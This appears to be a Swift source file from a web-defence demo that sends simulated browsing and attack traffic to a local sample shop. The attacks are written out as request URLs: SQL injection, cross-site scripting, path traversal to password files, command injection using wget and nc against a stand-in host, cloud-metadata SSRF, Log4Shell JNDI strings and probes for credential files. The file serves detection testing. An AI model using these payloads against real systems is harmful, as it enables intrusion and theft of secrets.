// SPDX-License-Identifier: Apache-2.0
// Copyright the Redoubt authors

import AsyncHTTPClient
import Foundation
import NIOCore
import NIOHTTP1

/// Visitors and attackers of the sample shop. All addresses are of the blocks for documentation (RFC 5737, RFC 3849).
struct DemoTraffic {
    let port: Int

    /// One request: by whom, with what browser, and what for.
    private struct Visit {
        var client: String
        var agent = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
        var target: String
        /// Of a form; nil for GET.
        var form: String?
    }

    /// Sends all, eight at a time.
    ///
    /// - Returns: how many were answered.
    func send(_ progress: (_ done: Int, _ all: Int) -> Void) async -> Int {
        let configuration = HTTPClient.Configuration(redirectConfiguration: .disallow)
        let client = HTTPClient(eventLoopGroupProvider: .singleton, configuration: configuration)
        let visits = Self.visits
        var answered = 0
        var done = 0
        await withTaskGroup(of: Bool.self) { group in
            var rest = visits.makeIterator()
            for _ in 0..<8 {
                if let visit = rest.next() { group.addTask { await send(visit, client) } }
            }
            for await isAnswered in group {
                answered += isAnswered ? 1 : 0
                done += 1
                progress(done, visits.count)
                if let visit = rest.next() { group.addTask { await send(visit, client) } }
            }
        }
        try? await client.shutdown()
        return answered
    }

    private func send(_ visit: Visit, _ client: HTTPClient) async -> Bool {
        var request = HTTPClientRequest(url: "http://localhost:\(port)\(visit.target)")
        request.headers = [
            "User-Agent": visit.agent, "X-Forwarded-For": visit.client,
            "Accept": "text/html,application/xhtml+xml", "Accept-Language": "en",
        ]
        if let form = visit.form {
            request.method = .POST
            request.headers.add(name: "Content-Type", value: "application/x-www-form-urlencoded")
            request.body = .bytes(ByteBuffer(string: form))
        }
        guard let response = try? await client.execute(request, timeout: .seconds(10)) else { return false }
        _ = try? await response.body.collect(upTo: 1 << 20)
        return true
    }

    private static let visits = browsing + gifts + attacks

    /// What people do.
    private static let browsing: [Visit] = (1...12).flatMap { number in
        [
            "/", "/products", "/product?id=\(number % 12 + 1)", "/search?q=earl+grey", "/search?q=green+tea",
            "/guestbook",
            "/files?name=kettle.txt", "/basket", "/api/products",
        ].map { Visit(client: "198.51.100.\(number * 7)", target: $0) }
    }

    /// What people write and rules take for an attack: a false alarm to find and except.
    private static let gifts: [Visit] = (1...8).map { number in
        Visit(
            client: "198.51.100.\(number * 7)",
            target: "/guestbook",
            form: "author=Ann&text=Please+union+select+tea+from+the+list+and+drop+table+reservations+\(number)"
        )
    }

    private static let attacks: [Visit] =
        injections + scripts + paths + commands + scans
        + [
            "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.99%2Fa%7D",
            "%24%7B%24%7Blower%3Aj%7Dndi%3Armi%3A%2F%2F203.0.113.99%2Fb%7D",
        ]
        .map { Visit(client: "203.0.113.99", target: "/search?q=\($0)") }

    private static let injections = [
        "/search?q=%27%20OR%201%3D1%20--%20", "/product?id=0+UNION+SELECT+name,password,1,2+FROM+account",
        "/product?id=1%20AND%20SLEEP(5)", "/product?id=1;DROP%20TABLE%20product",
        "/search?q=%27;WAITFOR%20DELAY%20%270:0:5%27--",
        "/search?q=%27%20UNION%20SELECT%20NULL,version(),NULL--%20", "/product?id=1%20OR%20%271%27=%271",
    ].flatMap { target in
        ["203.0.113.12", "2001:db8::bad:1"].map { client in
            Visit(client: client, agent: "sqlmap/1.8.11#stable (https://sqlmap.org)", target: target)
        }
    }

    private static let scripts = [
        "/greet?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/greet?name=%3Csvg/onload%3Dfetch(%27//203.0.113.30%27)%3E", "/search?q=javascript:alert(1)",
    ].map { Visit(client: "203.0.113.30", target: $0) }

    private static let paths = [
        "/files?name=../../../../../../../../etc/passwd", "/files?name=..%2f..%2f..%2f..%2fetc%2fshadow",
        "/files?name=/proc/self/environ", "/files?name=....//....//....//etc/passwd",
    ].map { Visit(client: "203.0.113.41", agent: "curl/8.14.1", target: $0) }

    private static let commands = [
        "/tools/ping?host=localhost;cat%20/etc/passwd", "/tools/ping?host=%60id%60",
        "/tools/ping?host=$(wget%20203.0.113.52/x.sh)",
        "/tools/ping?host=localhost%7Cnc%20203.0.113.52%204444",
        "/preview?url=http://169.254.169.254/latest/meta-data/",
    ].map { Visit(client: "203.0.113.52", agent: "python-requests/2.32.3", target: $0) }

    private static let scans = [
        "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin/config.php", "/server-status", "/backup.sql",
        "/.aws/credentials", "/actuator/env", "/cgi-bin/test.cgi", "/shell.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ].map {
        Visit(client: "203.0.113.77", agent: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", target: $0)
    }
}
